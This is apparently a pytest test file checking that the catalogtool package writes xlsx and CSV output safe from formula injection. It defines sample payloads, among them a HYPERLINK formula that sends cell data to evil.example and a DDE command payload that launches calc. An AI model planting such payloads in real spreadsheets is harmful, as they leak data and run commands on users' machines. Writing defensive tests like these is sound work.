"""Nothing catalogtool writes can be turned against its reader (issue #19).

Every xlsx the tool writes (convert, new, package's three workbooks, annotated copies) is opened and
its worksheet XML searched: no ``<f>`` element, hostile text stored as a string with quotePrefix.
Every CSV it writes guards formula-like text with an apostrophe. One guard does it all:
:mod:`catalogtool.safe_cells`.
"""

from __future__ import annotations

import csv
import io
import re
import shutil
import zipfile
from pathlib import Path

import openpyxl
import pytest
from cli_inproc import cli
from conftest import SAMPLE
from hypothesis import given, settings
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook
from ruamel.yaml import YAML

from catalogtool.safe_cells import (
    FORMULA_STARTS,
    csv_field,
    csv_unfield,
    is_formula_like,
    set_cell,
    xlsx_text,
)

TODAY = "2026-05-01"
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B5,"江苏省外国人来华工作指导目录（2026年版）")'
DDE = "=cmd|' /C calc'!A0"
HOSTILE = [HYPERLINK, DDE, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "＝1+1", "＋cmd", "－2", "＠SUM(A1)"]
_F = re.compile(rb"<(?:\w+:)?f[\s>/]")


def formulas(path: Path) -> list[str]:
    """Every worksheet part of ``path`` that holds a formula element."""
    with zipfile.ZipFile(path) as z:
        return [n for n in z.namelist() if n.startswith("xl/worksheets/") and _F.search(z.read(n))]


def texts_with_prefix(path: Path) -> dict[str, bool]:
    """Every string cell's text (as openpyxl reads it) → whether it carries quotePrefix."""
    wb = openpyxl.load_workbook(path)
    out: dict[str, bool] = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (path.name, cell.coordinate, cell.value)
                    out[cell.value] = bool(cell.quotePrefix)
    return out


def assert_inert(path: Path, hostile: list[str]) -> None:
    """No formula anywhere in ``path``; each hostile text present as a quote-prefixed string."""
    assert formulas(path) == [], path.name
    cells = texts_with_prefix(path)
    for text in hostile:
        found = [shown for shown in cells if text in shown]
        assert found, (path.name, text)
        for shown in found:
            if shown.startswith(FORMULA_STARTS):
                assert cells[shown], (path.name, shown)


# --- the guard itself ------------------------------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE)
def test_every_formula_start_and_its_full_width_form_is_formula_like(text: str) -> None:
    assert is_formula_like(text)
    assert csv_field(text) == "'" + text
    assert csv_unfield(csv_field(text)) == text


def test_plain_text_and_numbers_are_left_alone(tmp_path: Path) -> None:
    wb = openpyxl.Workbook()
    ws = wb.active
    assert ws is not None
    for col, value in enumerate(["芯片设计工程师", 3, 2.5, None, "'=1"], start=1):
        set_cell(ws.cell(1, col), value)
    wb.save(tmp_path / "t.xlsx")
    back = openpyxl.load_workbook(tmp_path / "t.xlsx").active
    assert back is not None
    assert [c.value for c in back[1]] == ["芯片设计工程师", 3, 2.5, None, "'=1"]
    assert [c.quotePrefix for c in back[1]] == [False] * 5
    assert csv_field("芯片") == "芯片" and csv_field("-") == "-"


_TEXT = st.text(st.characters(exclude_categories=("Cs",), exclude_characters="\ufffe\uffff"), max_size=40)


@settings(max_examples=60, deadline=None)
@given(values=st.lists(_TEXT, min_size=1, max_size=6))
def test_any_text_written_to_a_cell_reads_back_exactly_and_never_as_a_formula(
    tmp_path_factory: pytest.TempPathFactory, values: list[str]
) -> None:
    path = tmp_path_factory.mktemp("cells") / "t.xlsx"
    wb = openpyxl.Workbook()
    ws = wb.active
    assert ws is not None
    ws.cell(1, 1, "start")  # so that calamine's range starts at A1 and ends after the values
    for col, text in enumerate([*values, "end"], start=1):
        set_cell(ws.cell(2, col), text)
    wb.save(path)
    assert formulas(path) == []
    read = CalamineWorkbook.from_path(str(path)).get_sheet_by_index(0).to_python()
    # CR is kept (as a character reference), control characters as _xHHHH_ escapes
    assert [str(v) for v in read[1]] == [*values, "end"]


def test_the_ooxml_escape_is_itself_escaped() -> None:
    assert xlsx_text("a\x01b") == "a_x0001_b"
    assert xlsx_text("_x0041_") == "_x005F_x0041_"
    assert xlsx_text("\ufffe") == "_xFFFE_"


# --- every writer ------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def hostile_workspace(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The Jiangsu sample with hostile text in province.yaml's title, the consultation record, the
    Category A standards and the catalog's notes, packaged."""
    root = tmp_path_factory.mktemp("hostile") / "ws"
    shutil.copytree(SAMPLE, root)
    folder = root / "provinces" / "JS"
    yaml = YAML()
    province = yaml.load((folder / "province.yaml").read_text("utf-8"))
    province["title"] = HYPERLINK
    with (folder / "province.yaml").open("w", encoding="utf-8") as fh:
        yaml.dump(province, fh)
    consultation = yaml.load((folder / "consultation.yaml").read_text("utf-8"))
    consultation["opinions"][0]["summary"] = DDE
    consultation["opinions"][0]["response"] = "@SUM(A1:A9)"
    with (folder / "consultation.yaml").open("w", encoding="utf-8") as fh:
        yaml.dump(consultation, fh)
    standards = yaml.load((folder / "high-end-standards.yaml").read_text("utf-8"))
    standards["standards"][0]["notes"] = "+1+1"
    standards["standards"][1]["evidence"] = ["－2"]
    with (folder / "high-end-standards.yaml").open("w", encoding="utf-8") as fh:
        yaml.dump(standards, fh)
    source = yaml.load((folder / "catalog.source.yaml").read_text("utf-8"))
    source["title"] = HYPERLINK
    source["rows"][0]["notes"] = "-熟悉\t=1+1"
    source["rows"][1]["notes"] = "＝1+1"
    with (root / "hostile.yaml").open("w", encoding="utf-8") as fh:
        yaml.dump(source, fh)
    (folder / "catalog.xlsx").unlink()
    outcome = cli("convert", root / "hostile.yaml", folder / "catalog.xlsx")
    assert outcome.code == 0, outcome.stdout + outcome.stderr
    outcome = cli("package", "--province", "JS", "--workspace", root, "--today", TODAY)
    assert outcome.code == 0, outcome.stdout + outcome.stderr
    return root


def test_package_workbooks_hold_no_formula(hostile_workspace: Path) -> None:
    package = hostile_workspace / "dist" / "JS-2026"
    assert_inert(package / "catalog.xlsx", [HYPERLINK, "-熟悉\t=1+1", "＝1+1"])
    assert_inert(package / "consultation.xlsx", [HYPERLINK, DDE, "@SUM(A1:A9)"])
    assert_inert(package / "high-end-standards.xlsx", [HYPERLINK, "+1+1", "－2"])


def test_package_csv_guards_formula_like_text(hostile_workspace: Path) -> None:
    text = (hostile_workspace / "dist" / "JS-2026" / "catalog.csv").read_text("utf-8")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [r["notes"] for r in rows[:2]] == ["'-熟悉\t=1+1", "'＝1+1"]
    for row in rows:
        for value in row.values():
            assert not is_formula_like(value) or (value.startswith("-") and value[1:].isdigit()), value


def test_convert_writes_a_hostile_title_row_as_text(hostile_workspace: Path, tmp_path: Path) -> None:
    catalog = hostile_workspace / "provinces" / "JS" / "catalog.xlsx"
    assert_inert(catalog, [HYPERLINK, "-熟悉\t=1+1", "＝1+1"])
    # a hostile title row of someone else's workbook survives xlsx → xlsx as text
    again = tmp_path / "again.xlsx"
    assert cli("convert", catalog, again).code == 0
    assert_inert(again, [HYPERLINK])


def test_convert_csv_output_guards_every_field(hostile_workspace: Path, tmp_path: Path) -> None:
    out = tmp_path / "out.csv"
    assert cli("convert", hostile_workspace / "hostile.yaml", out).code == 0
    for row in csv.reader(io.StringIO(out.read_text("utf-8-sig"))):
        for value in row:
            assert not is_formula_like(value), value


def test_an_annotated_copy_holds_no_formula(hostile_workspace: Path, tmp_path: Path) -> None:
    draft = tmp_path / "draft.xlsx"
    wb = openpyxl.load_workbook(hostile_workspace / "provinces" / "JS" / "catalog.xlsx")
    ws = wb["指导目录"]
    set_cell(ws["B5"], DDE)  # a subcategory code that is a formula-like text: CT2xx names it
    wb.save(draft)
    out = tmp_path / "annotated.xlsx"
    outcome = cli("validate", draft, "--annotate", out)
    assert outcome.code == 1, outcome.stdout
    assert_inert(out, [DDE, HYPERLINK])


def test_a_new_workspace_workbook_holds_no_formula(tmp_path: Path) -> None:
    assert cli("new", "--province", "JS", "--workspace", tmp_path / "ws").code == 0
    (catalog,) = (tmp_path / "ws").rglob("catalog.xlsx")
    assert formulas(catalog) == []
